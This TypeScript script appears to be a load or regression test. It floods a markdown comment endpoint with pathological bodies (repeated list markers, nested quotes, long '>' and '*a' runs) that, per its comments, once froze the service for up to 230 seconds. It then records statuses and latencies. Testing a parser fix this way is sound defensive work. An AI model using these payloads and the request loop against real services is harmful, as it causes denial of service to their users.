/**
 * Posts markdown that once froze the service, in a loop, as comments: run as
 * a child process by attack.ts, so that its own work is not charged to the
 * server it attacks.
 *
 * Argument: JSON {url, authorization, durationS}. Output: JSON
 * {statuses, latenciesMs} on stdout.
 */
interface AttackRequest {
  url: string;
  authorization: string;
  durationS: number;
}

/**
 * Bodies of the shapes whose parse time grows faster than the text (the ones
 * that froze every organization for 7 to 230 s when parsed on the event loop),
 * and one within every limit that takes about a second to parse, which the
 * conversion pool runs off the event loop.
 */
const BODIES = [
  '1. '.repeat(6_000),
  '> - '.repeat(4_000),
  '>'.repeat(50_000),
  '*a'.repeat(30_000),
  '1. '.repeat(20_000).slice(0, 65_000),
  '> quote\n\n'.repeat(1_990),
];

const { url, authorization, durationS } = JSON.parse(process.argv[2] ?? '{}') as AttackRequest;
const payloads = BODIES.map((markdown) => JSON.stringify({ body: { markdown } }));
const statuses: Record<string, number> = {};
const latenciesMs: number[] = [];
const deadline = performance.now() + durationS * 1000;

for (let i = 0; performance.now() < deadline; i += 1) {
  const sent = performance.now();
  const response = await fetch(url, {
    method: 'POST',
    headers: { authorization, 'content-type': 'application/json' },
    body: payloads[i % payloads.length]!,
  });
  await response.arrayBuffer();
  latenciesMs.push(performance.now() - sent);
  statuses[response.status] = (statuses[response.status] ?? 0) + 1;
}
process.stdout.write(JSON.stringify({ statuses, latenciesMs }));

// A module, for its top-level await.
export {};
